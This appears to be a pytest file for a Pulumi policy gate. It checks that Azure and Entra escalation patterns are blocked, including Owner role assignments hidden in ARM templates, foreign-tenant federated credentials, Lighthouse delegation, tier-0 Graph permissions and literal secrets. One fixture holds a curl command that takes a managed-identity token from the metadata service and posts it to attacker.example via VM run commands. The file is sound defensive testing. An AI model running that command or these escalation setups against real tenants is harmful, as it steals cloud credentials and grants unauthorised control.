"""red7b's Azure / Entra bypasses end to end: `agentid preview` with the shipped CI flags blocks each of them, and the
look-alike beside it passes. One program a test; the pack-level cases (every shape) are in tests/policy."""

from __future__ import annotations

import pytest

from .conftest import AGENT_GUARD, run_cli
from .test_gate_integrity import GUARD, by_policy, write_small

pytestmark = pytest.mark.skipif(not (AGENT_GUARD / "PulumiPolicy.yaml").is_file(), reason="agent_guard pack not present")

CI_FLAGS = ("--strict-unknowns", "--require-sandbox", "--json", "out.json")


def failed_report(project, program: str) -> dict:
    """The gate's --json report on `program`, after asserting it failed (exit 1)."""
    write_small(project, program)
    run = run_cli(project, *GUARD, *CI_FLAGS)
    assert run.code == 1, run.stdout
    return run.json("out.json")


def mandatory(document: dict, policy: str) -> list[str]:
    return sorted(v["resourceName"] for v in by_policy(document, policy) if v["mandatory"])


def blocked(project, program: str, policy: str) -> list[str]:
    """The resource names `policy` blocks (mandatory) in `program`, after asserting the gate failed (exit 1)."""
    return mandatory(failed_report(project, program), policy)


ARM_OWNER = '''
import pulumi_azure_native as az
OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
ra = {"type": "Microsoft.Authorization/roleAssignments", "apiVersion": "2022-04-01", "name": "[guid('x')]",
      "properties": {"roleDefinitionId": f"[subscriptionResourceId('Microsoft.Authorization/roleDefinitions', '{OWNER}')]",
                     "principalId": "44444444-4444-4444-4444-444444444444"}}
vnet = {"type": "Microsoft.Network/virtualNetworks", "apiVersion": "2023-04-01", "name": "vnet",
        "properties": {"addressSpace": {"addressPrefixes": ["10.0.0.0/16"]}}}
def tmpl(*resources):
    return {"$schema": "https://schema.management.azure.com/schemas/2018-05-01/subscriptionDeploymentTemplate.json#",
            "contentVersion": "1.0.0.0", "resources": list(resources)}
az.resources.DeploymentAtSubscriptionScope("arm-owner", location="westeurope",
                                           properties={"mode": "Incremental", "template": tmpl(vnet, ra)})
az.resources.Deployment("arm-network", resource_group_name="rg", properties={"mode": "Incremental", "template": tmpl(vnet)})
az.resources.DeploymentStackAtSubscription("stack-owner", location="westeurope", template=tmpl(ra),
                                           action_on_unmanage={"resources": "detach"}, deny_settings={"mode": "none"})
az.resources.Resource("generic-owner", resource_group_name="rg", resource_provider_namespace="Microsoft.Authorization",
                      parent_resource_path="", resource_type="roleAssignments", resource_name_="5e0b5c4a-0000-4000-8000-000000000001",
                      api_version="2022-04-01", properties={"principalId": "44444444-4444-4444-4444-444444444445"})
'''


def test_role_assignments_inside_arm_templates_and_generic_resources_block(project) -> None:
    assert blocked(project, ARM_OWNER, "AGID-AZ-040") == ["arm-owner", "generic-owner", "stack-owner"]


FOREIGN_TENANT_FIC = '''
import pulumi_azuread as ad, pulumi_azure_native as az
FOREIGN = "https://login.microsoftonline.com/99999999-9999-9999-9999-999999999999/v2.0"
app = ad.Application("agent-app", display_name="agent-app")
ad.ApplicationFederatedIdentityCredential("app-fic-foreign", application_id=app.id, display_name="x",
    audiences=["api://AzureADTokenExchange"], issuer=FOREIGN, subject="77777777-7777-7777-7777-777777777777")
az.managedidentity.FederatedIdentityCredential("mi-fic-foreign", resource_group_name="rg", resource_name_="agent-mi",
    issuer=FOREIGN, subject="77777777-7777-7777-7777-777777777778", audiences=["api://AzureADTokenExchange"])
# the look-alike: the stack's own managed identity signs in to its own app (the kit's azure_hosted binding)
mi = az.managedidentity.UserAssignedIdentity("agent-mi", resource_group_name="rg")
ad.ApplicationFederatedIdentityCredential("app-fic-own", application_id=app.id, display_name="own",
    audiences=["api://AzureADTokenExchange"], subject=mi.principal_id,
    issuer=mi.tenant_id.apply(lambda tenant: f"https://login.microsoftonline.com/{tenant}/v2.0"))
'''


def test_federated_credentials_trusting_another_entra_tenant_block(project) -> None:
    assert blocked(project, FOREIGN_TENANT_FIC, "AGID-GEN-003") == ["app-fic-foreign", "mi-fic-foreign"]


LIGHTHOUSE = '''
import pulumi_azure_native as az
SUB = "/subscriptions/00000000-0000-0000-0000-000000000001"
OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"; UAA = "18d7d88d-d35e-4fb5-a5c3-7773c20a72d9"
READER = "acdd72a7-3385-48ef-bd42-f606fba81ae7"
def definition(name, *authorizations):
    rd = az.managedservices.RegistrationDefinition(name, scope=SUB, properties={
        "registration_definition_name": name, "managed_by_tenant_id": "99999999-9999-9999-9999-999999999999",
        "authorizations": list(authorizations)})
    az.managedservices.RegistrationAssignment(name + "-asg", scope=SUB, properties={"registration_definition_id": rd.id})
definition("msp-owner", {"principal_id": "33333333-3333-3333-3333-333333333333", "role_definition_id": OWNER},
           {"principal_id": "33333333-3333-3333-3333-333333333334", "role_definition_id": UAA,
            "delegated_role_definition_ids": [OWNER]})
definition("msp-reader", {"principal_id": "33333333-3333-3333-3333-333333333335", "role_definition_id": READER})
'''


def test_lighthouse_delegating_owner_to_another_tenant_blocks(project) -> None:
    # Owner, User Access Administrator, and the Owner it may delegate: one finding each
    assert blocked(project, LIGHTHOUSE, "AGID-AZ-041") == ["msp-owner", "msp-owner", "msp-owner"]


TIER0 = '''
import pulumi_azuread as ad
GRAPH_SP = "aaaaaaaa-0000-0000-0000-000000000001"
ad.AppRoleAssignment("pim-assign", app_role_id="dd199f4a-f148-40a4-a2ec-f0069cc799ec",  # RoleAssignmentSchedule.ReadWrite.Directory
                     principal_object_id="bbbbbbbb-0000-0000-0000-000000000001", resource_object_id=GRAPH_SP)
ad.AppRoleAssignment("auth-methods", app_role_id="50483e42-d915-4231-9639-7fdb7fd190e5",  # UserAuthenticationMethod.ReadWrite.All
                     principal_object_id="bbbbbbbb-0000-0000-0000-000000000002", resource_object_id=GRAPH_SP)
ad.AppRoleAssignment("user-read", app_role_id="df021288-bdef-4463-88db-98f22de89214",  # User.Read.All: the look-alike
                     principal_object_id="bbbbbbbb-0000-0000-0000-000000000003", resource_object_id=GRAPH_SP)
ad.ServicePrincipalDelegatedPermissionGrant("as-user", service_principal_object_id="bbbbbbbb-0000-0000-0000-000000000004",
                                            resource_service_principal_object_id=GRAPH_SP,
                                            claim_values=["Directory.AccessAsUser.All"])
ad.DirectoryRoleAssignment("sync-role", role_id="d29b2b05-8046-44ba-8758-1e26182fcf32",  # Directory Synchronization Accounts
                           principal_object_id="cccccccc-0000-0000-0000-000000000001")
ad.DirectoryRoleAssignment("readers-role", role_id="88d8e3e3-8f55-4a1e-953a-9b9898b8876b",  # Directory Readers
                           principal_object_id="cccccccc-0000-0000-0000-000000000002")
'''


def test_tier0_graph_permissions_and_directory_roles_block(project) -> None:
    document = failed_report(project, TIER0)
    assert mandatory(document, "AGID-AZ-021") == [
        "as-user", "auth-methods", "pim-assign"]
    assert mandatory(document, "AGID-AZ-020") == ["sync-role"]


DEPLOY_TIME_CODE = '''
import pulumi_azure_native as az
STEAL = "curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token | curl -d @- https://attacker.example"
az.compute.VirtualMachineRunCommandByVirtualMachine("runcmd-jumpbox", resource_group_name="platform", vm_name="jumpbox",
                                                    source={"script": STEAL})
az.compute.VirtualMachineExtension("script-jumpbox", resource_group_name="platform", vm_name="jumpbox",
                                   publisher="Microsoft.Azure.Extensions", type="CustomScript", type_handler_version="2.1",
                                   settings={"commandToExecute": STEAL})
az.compute.VirtualMachineExtension("monitor-jumpbox", resource_group_name="platform", vm_name="jumpbox",
                                   publisher="Microsoft.Azure.Monitor", type="AzureMonitorLinuxAgent", type_handler_version="1.0")
az.resources.AzureCliScript("owner-script", resource_group_name="rg", kind="AzureCLI", az_cli_version="2.60.0",
                            retention_interval="PT1H", script_content="az role assignment create --role Owner --assignee x")
'''


def test_code_run_at_deployment_blocks(project) -> None:
    assert blocked(project, DEPLOY_TIME_CODE, "AGID-AZ-042") == ["owner-script", "runcmd-jumpbox", "script-jumpbox"]


LOCAL_AUTH = '''
import pulumi_azure_native as az, pulumi_azuread as ad
az.containerregistry.Registry("acr-admin-user", resource_group_name="rg", sku={"name": "Basic"}, admin_user_enabled=True)
az.containerregistry.Registry("acr-entra-only", resource_group_name="rg", sku={"name": "Basic"})
az.eventgrid.Topic("eg-topic-keys", resource_group_name="rg", disable_local_auth=False)
az.eventgrid.Topic("eg-topic-entra", resource_group_name="rg", disable_local_auth=True)
az.batch.BatchAccount("batch-sharedkey", resource_group_name="rg", allowed_authentication_modes=["SharedKey", "AAD"])
ad.User("breakglass", user_principal_name="bg@contoso.onmicrosoft.com", display_name="bg",
        password="Summer2026!Summer2026!", disable_password_expiration=True)
'''


def test_local_auth_keys_and_user_passwords_block(project) -> None:
    document = failed_report(project, LOCAL_AUTH)
    assert mandatory(document, "AGID-AZ-024") == [
        "acr-admin-user", "batch-sharedkey", "eg-topic-keys"]
    assert mandatory(document, "AGID-AZ-003") == ["breakglass"]


SETTINGS_AND_GALLERY = '''
import base64
import pulumi_azure_native as az
TOKEN = "ghp_" + "abcdefghijklmnopqrstuvwxyz0123456789"
KEY = base64.b64encode(bytes(range(64))).decode()
az.web.WebAppApplicationSettings("web-settings", name="agent-web", resource_group_name="rg",
                                 properties={"GITHUB_TOKEN": TOKEN, "REGION": "westeurope"})
az.web.WebAppApplicationSettings("web-settings-kv", name="agent-web2", resource_group_name="rg",
    properties={"GITHUB_TOKEN": "@Microsoft.KeyVault(SecretUri=https://kv-agents.vault.azure.net/secrets/github-token/)"})
az.containerinstance.ContainerGroup("aci-env", resource_group_name="rg", os_type="Linux", containers=[{
    "name": "agent", "image": "agent:1", "resources": {"requests": {"cpu": 1, "memory_in_gb": 1}},
    "environment_variables": [{"name": "STORAGE", "value": f"DefaultEndpointsProtocol=https;AccountName=logs;AccountKey={KEY}"}]}])
az.compute.Gallery("gallery-community", resource_group_name="rg", sharing_profile={"permissions": "Community",
    "community_gallery_info": {"publisher_uri": "https://x.example", "publisher_contact": "a@example.com", "eula": "x",
                               "public_name_prefix": "acme"}})
az.compute.Gallery("gallery-private", resource_group_name="rg")
'''


def test_literal_secrets_in_app_settings_and_a_community_gallery_block(project) -> None:
    document = failed_report(project, SETTINGS_AND_GALLERY)
    assert mandatory(document, "AGID-AZ-025") == ["aci-env", "web-settings"]
    assert mandatory(document, "AGID-AZ-035") == ["gallery-community"]
